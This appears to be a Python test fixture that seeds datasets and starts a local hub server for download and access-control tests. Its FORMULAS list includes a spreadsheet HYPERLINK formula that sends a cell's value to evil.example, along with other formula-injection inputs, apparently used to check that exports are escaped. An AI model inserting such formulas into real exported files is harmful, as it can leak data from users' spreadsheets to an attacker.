"""A real hub server with datasets made for the download tests (tests/test_downloads.py).

Seeded CSVs go through the real ingest (conftest's Project harness), the catalog is loaded from
the pipelines with the demo district's vocabularies and organisations, two users get API
tokens through the CLI, then `hub serve` runs in its own process on a free port (its pid is
kept, for the memory checks).
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import numpy as np
import yaml
from conftest import DISTRICT_BBOX, Project, hub_server

BIG_ROWS = 200_000
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klick")', "+49 3531 1234",
            "-Minus vorn", "@SUMME(A1:A9)", "\tTab vorn", "\rWagenrücklauf vorn"]
ODD_TEXT = ["Zeile 1\nZeile 2", 'Komma, "Anführung" und Semikolon;', "Backslash \\ äöüß €",
            "Steuerzeichen \x01\x1f", "ok = kein Formelanfang", "'schon ein Apostroph"]
POINT_FIELDS = [
    {"name": "id", "type": "string", "constraints": {"required": True}},
    {"name": "name", "type": "string"},
    {"name": "plaetze", "type": "integer"},
    {"name": "anteil", "type": "number"},
    {"name": "rollstuhlgerecht", "type": "boolean"},
    {"name": "stand", "type": "date"},
    {"name": "geometry", "type": "geojson", "geometryTypes": ["Point"]},
]
FORMATS = ("geojson", "csv", "gpkg", "parquet", "fgb")


@dataclass
class Site:
    base: str  # http://127.0.0.1:PORT
    project: Project
    client: httpx.Client
    pid: int
    tokens: dict[str, str]  # staff (viewer of sozialamt), other (of another office), admin

    def get(self, path: str, **kwargs) -> httpx.Response:
        return self.client.get(self.base + path, **kwargs)

    def head(self, path: str, **kwargs) -> httpx.Response:
        return self.client.head(self.base + path, **kwargs)


def _points(rng: np.random.Generator, n: int) -> tuple[np.ndarray, np.ndarray]:
    x0, y0, x1, y1 = DISTRICT_BBOX
    return rng.uniform(x0, x1, n).round(7), rng.uniform(y0, y1, n).round(7)


def write_points(path: Path, rng: np.random.Generator, n: int, prefix: str) -> None:
    lon, lat = _points(rng, n)
    odd = FORMULAS + ODD_TEXT
    with open(path, "w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["id", "name", "plaetze", "anteil", "rollstuhlgerecht", "stand", "lon",
                      "lat"])
        for i in range(n):
            name = odd[(i // 3) % len(odd)] if i % 3 == 0 else f"Einrichtung {i + 1}"
            plaetze = "" if i % 7 == 0 else str(int(rng.integers(-20, 120)))
            anteil = "" if i % 13 == 0 else f"{rng.uniform(-1, 1):.4f}"
            stand = "" if i % 11 == 0 else f"2025-{1 + i % 12:02d}-{1 + i % 28:02d}"
            out.writerow([f"{prefix}{i + 1:04d}", name, plaetze, anteil,
                          "true" if i % 3 else "false", stand, lon[i], lat[i]])


def write_polygons(path: Path) -> None:
    lines = ["name;typ;wkt"]
    for i in range(30):
        x, y = 13.1 + (i % 6) * 0.12, 51.4 + (i // 6) * 0.09
        shape = (f"POLYGON (({x} {y}, {x + 0.1} {y}, {x} {y + 0.08}, {x} {y}))" if i % 5 else
                 f"MULTIPOLYGON ((({x} {y}, {x + 0.05} {y}, {x} {y + 0.04}, {x} {y})), "
                 f"(({x + 0.06} {y}, {x + 0.09} {y}, {x + 0.06} {y + 0.03}, {x + 0.06} {y})))")
        lines.append(f"Fläche {i + 1};{'=Wald' if i % 2 else 'Wiese'};{shape}")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def write_big(path: Path, rng: np.random.Generator, n: int) -> None:
    lon, lat = _points(rng, n)
    nr = np.arange(1, n + 1)
    gruppe = np.array(["Gruppe A", "Gruppe B", "Gruppe C", "Gruppe D"])[nr % 4]
    wert = rng.uniform(-1000, 1000, n).round(3)
    table = np.column_stack([nr.astype(str), gruppe, np.char.add("Adresse Nr. ", nr.astype(str)),
                             wert.astype(str), lon.astype(str), lat.astype(str)])
    body = "\n".join(",".join(row) for row in table)
    path.write_text("nr,gruppe,adresse,wert,lon,lat\n" + body + "\n", encoding="utf-8")


def build_project(root: Path) -> Project:
    project = Project(root)  # with the catalog of production (conftest.add_catalog)
    catalog = root / "catalog"
    (catalog / "district.yaml").write_text(yaml.safe_dump({
        "name": "Testkreis", "ags": "12062", "bbox": DISTRICT_BBOX, "extent_buffer_km": 5,
        "default_license": "dl-by-de/2.0"}), encoding="utf-8")
    (catalog / "datasets").mkdir()
    (catalog / "datasets" / "vertraulich.yaml").write_text(yaml.safe_dump({
        "name": "vertraulich", "title": "Vertrauliche Einrichtungen", "description": "Test",
        "publisher": "sozialamt", "license": "other-closed", "access": "restricted",
        "restricted_to": ["sozialamt"]}, allow_unicode=True), encoding="utf-8")
    (catalog / "datasets" / "zweifel.yaml").write_text(yaml.safe_dump({  # stricter than its
        "name": "zweifel", "title": "Noch nicht freigegeben", "description": "Test",  # pipeline
        "publisher": "sozialamt", "license": "dl-by-de/2.0", "access": "internal"},
        allow_unicode=True), encoding="utf-8")
    rng = np.random.default_rng(20261124)
    points = {"crs": "EPSG:4326", "geometry": {"lon": "lon", "lat": "lat"}}
    common = {"organization": "sozialamt"}
    project.schema("punkte", POINT_FIELDS, primaryKey=["id"])
    for name, n, access, prefix in (("pflege", 400, "public", "P"), ("intern", 40, "internal", "I"),
                                    ("vertraulich", 20, "restricted", "G"),
                                    ("wechsel", 6, "public", "W"),
                                    ("zweifel", 5, "public", "Q"),
                                    ("gleichzeitig", 60_000, "public", "Z")):
        write_points(project.data / f"{name}.csv", rng, n, prefix)
        project.pipeline(name, "punkte", {"path": f"data/{name}.csv", **points}, access=access,
                         attribution=f"Testdaten {name}", **common)
    project.schema("flaechen", [{"name": "name", "type": "string"},
                                {"name": "typ", "type": "string"},
                                {"name": "geometry", "type": "geojson"}])
    write_polygons(project.data / "flaechen.csv")
    project.pipeline("flaechen", "flaechen", {"path": "data/flaechen.csv", "crs": "EPSG:4326",
                                              "geometry": {"wkt": "wkt"}}, access="public",
                     **common)
    project.schema("gross", [{"name": "nr", "type": "integer"},
                             {"name": "gruppe", "type": "string"},
                             {"name": "adresse", "type": "string"},
                             {"name": "wert", "type": "number"},
                             {"name": "geometry", "type": "geojson"}])
    write_big(project.data / "gross.csv", rng, BIG_ROWS)
    project.pipeline("gross", "gross", {"path": "data/gross.csv", **points}, access="public",
                     **common)
    for name in ("pflege", "intern", "vertraulich", "wechsel", "zweifel", "gleichzeitig",
                 "flaechen", "gross"):
        report = project.ingest(name)
        assert report.status == "committed", (name, report.error)
    loaded = project.cli("catalog", "load")
    assert loaded.exit_code == 0, loaded
    return project


def _token(project: Project, user: str, role: str, org: str = "sozialamt") -> str:
    added = project.cli("user", "add", user, "--org", org, "--role", role)
    assert added.exit_code == 0, added
    return project.cli("token", "create", user).output.strip().splitlines()[-1]


def serve(root: Path) -> Iterator[Site]:
    project = build_project(root)
    tokens = {"staff": _token(project, "leser", "viewer"),
              "other": _token(project, "nachbar", "viewer", "kataster-vermessung"),
              "admin": _token(project, "chefin", "admin")}
    with hub_server(project.root, project.store_dir) as server, \
            httpx.Client(timeout=120) as client:
        yield Site(server.url, project, client, server.pid, tokens)
